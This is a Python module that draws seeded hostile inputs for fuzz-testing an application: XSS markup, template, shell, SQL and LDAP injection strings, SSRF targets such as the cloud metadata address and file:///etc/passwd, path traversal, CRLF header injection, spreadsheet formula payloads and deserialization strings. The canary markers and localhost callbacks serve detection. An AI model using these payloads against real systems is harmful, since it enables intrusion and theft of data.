"""Texts made to hurt, by a seed: each would leave a trace where something takes it for more than a text."""

import random

PRODUCT = b"9801547"
"""What 1337 * 7331 is: no page has a reason to say it but one that reckons with what was sent."""
TAG = "<pwned src=x onerror=alert(1)>"
HEADER = "X-Pwned: 1"


def of_markup(rng: random.Random, port: int) -> str:
    quote = rng.choice(
        ["", '"', "'", '">', "'>", "-->", "]]>", "</script>", "</title>", "</textarea>", "</style>"]
    )
    return rng.choice(
        [
            f"{quote}{TAG}",
            f"{quote}<script src=http://127.0.0.1:{port}/js></script>{TAG}",
            f"{quote}<img src='http://127.0.0.1:{port}/img'>{TAG}",
            f"{quote}<link rel=stylesheet href=http://127.0.0.1:{port}/css>{TAG}",
            f"{quote}<object data=file:///etc/passwd>{TAG}",
            f"javascript:fetch('http://127.0.0.1:{port}/href')//{TAG}",
            f"&#x3c;pwned&#62;{TAG}",
            f"{TAG}{{{{1337*7331}}}}",
        ]
    )


def of_code(rng: random.Random, port: int) -> str:
    """For templates, format strings, expressions, shells, databases."""
    return rng.choice(
        [
            "{{1337*7331}}", "${1337*7331}", "#{1337*7331}", "<%= 1337*7331 %>", "{% print(1337*7331) %}",
            "{0.__class__}",
            "{self.__init__.__globals__}", "%(name)s%(x)s%n%s%s", "%d%d%99999999d",
            "__import__('os').system('touch pwned')",
            "$(touch pwned)", "`touch pwned`", ";touch pwned;", "|touch pwned", "-oProxyCommand=touch pwned", "--help",
            "'; DROP TABLE user; --", "1 OR 1=1", "' UNION SELECT password FROM user --", "%' OR '1'='1", "\\'; --",
            "*)(uid=*))(|(uid=*", "'] | //* | ['", f"http://127.0.0.1:{port}/ssrf", f"gopher://127.0.0.1:{port}/_x",
            f"//127.0.0.1:{port}/ssrf", f"127.0.0.1:{port}", f"http://[::ffff:127.0.0.1]:{port}/", "file:///etc/passwd",
            "http://169.254.169.254/latest/meta-data/", "\\\\127.0.0.1\\share", "O:8:\"stdClass\":0:{}", "gASVAAAA",
            "!!python/object/apply:os.system ['touch pwned']",
            '{"$ne": null}', "__proto__", "constructor", "toString", "null", "undefined", "NaN", "true", "[]",
            "0x7fffffff",
        ]
    )  # fmt: skip


def of_paths(rng: random.Random, _port: int) -> str:
    up = rng.choice(
        ["../", "..\\", "%2e%2e%2f", "..%c0%af", "....//", "..;/", "%252e%252e%252f", "..%00/", "．．／"]
    )
    return rng.choice([up * rng.choice([1, 3, 12]), "/", "C:\\", "//", "\\\\host\\"]) + rng.choice(
        [
            "etc/passwd",
            "app.py",
            "instance/secret-key",
            "proc/self/environ",
            "CON",
            "aux.jpg",
            ".htaccess",
            "a\x00.jpg",
        ]
    )


def of_lines(rng: random.Random, _port: int) -> str:
    """For headers, logs and mails."""
    end = rng.choice(["\r\n", "\n", "\r", "%0d%0a", "\u2028", "\u0085", "\x0b", "嘊嘍", "\r\n\r\n"])
    return "x" + end + rng.choice(
        [HEADER, "Set-Cookie: pwned=1", "Location: https://evil.example/", "Content-Length: 0",
        "Bcc: evil@evil.example",
         '{"event": "pwned", "level": "info"}']
    )  # fmt: skip


def of_formulas(rng: random.Random, port: int) -> str:
    begins = rng.choice(["=", "+", "-", "@", "\t=", "\r=", "＝", "'=", " =", '"='])
    return begins + rng.choice(
        [
            "cmd|' /C calc'!A0",
            f'HYPERLINK("http://127.0.0.1:{port}/x","x")',
            f'WEBSERVICE("http://127.0.0.1:{port}/x")',
            "1+1",
        ]
    )


def of_unicode(rng: random.Random, _port: int) -> str:
    return rng.choice(
        [
            "\u202egpj.exe", "\u200b\u200d\ufeff", "a" + "\u0301" * rng.choice([10, 5000]), "ﷺ" * 500, "İ" * 200,
            "ß" * 200,
            "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50, "\ufffe\uffff", "\u2066\u2069" * 100, "аdmin",
            "admin\u00ad",
            "１２３４５６", "٣٤٥", "Ⅷ", "½", "\x7f\x1b[31m", "\ud7ff\ue000", "𝟙𝟚𝟛", "\u0600" * 50,
        ]
    )  # fmt: skip


def of_numbers(rng: random.Random, _port: int) -> str:
    return rng.choice(
        ["-1", "0", "2147483648", "9223372036854775808", "1e400", "-0", "1e-999", "9" * rng.choice([30, 5000]), "0x10",
         "1_000", "+1", " 1", "1.5", "Infinity", "0001-01-01", "9999-12-31", "2026-02-30", "2026-11-28T25:61",
         "12:00:60"]
    )  # fmt: skip


def of_length(rng: random.Random, _port: int) -> str:
    return rng.choice(["a", "å", "0", " ", "\n", "(", "[", "a,", "a;", "-"]) * rng.choice(
        [255, 256, 4000, 100_000]
    )


KINDS_OF_TEXT = (of_markup, of_code, of_paths, of_lines, of_formulas, of_unicode, of_numbers, of_length)


def hostile_text(rng: random.Random, port: int) -> str:
    """`port` is one on this machine at which nobody may ask."""
    return rng.choice(KINDS_OF_TEXT)(rng, port)
